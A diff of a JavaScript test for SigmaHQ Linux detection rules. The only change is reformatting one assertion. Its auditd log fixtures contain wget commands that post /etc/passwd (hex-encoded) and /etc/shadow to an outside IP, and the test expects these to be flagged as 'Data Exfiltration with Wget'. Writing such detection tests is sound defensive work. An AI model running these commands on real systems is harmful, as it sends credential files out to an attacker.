@@ -47,9 +47,7 @@ describe('SigmaHQ Linux rules (../shared/datasets/sigma-rules)', () => {
     };
     // auditd EXECVE, raw and as forwarded by audispd through syslog; a1 hex-encoded like auditd does.
     const hex = Buffer.from('--post-file=/etc/passwd').toString('hex').toUpperCase();
-    expect(names(`type=EXECVE msg=audit(1700000000.123:42): argc=3 a0="wget" a1=${hex} a2="http://203.0.113.9/up"`)).toContain(
-      'Data Exfiltration with Wget',
-    );
+    expect(names(`type=EXECVE msg=audit(1700000000.123:42): argc=3 a0="wget" a1=${hex} a2="http://203.0.113.9/up"`)).toContain('Data Exfiltration with Wget');
     expect(names(`Nov 27 10:00:00 web1 audispd: node=web1 type=EXECVE msg=audit(1700000000.123:42): argc=2 a0="wget" a1="--post-file=/etc/shadow"`)).toContain(
       'Data Exfiltration with Wget',
     );
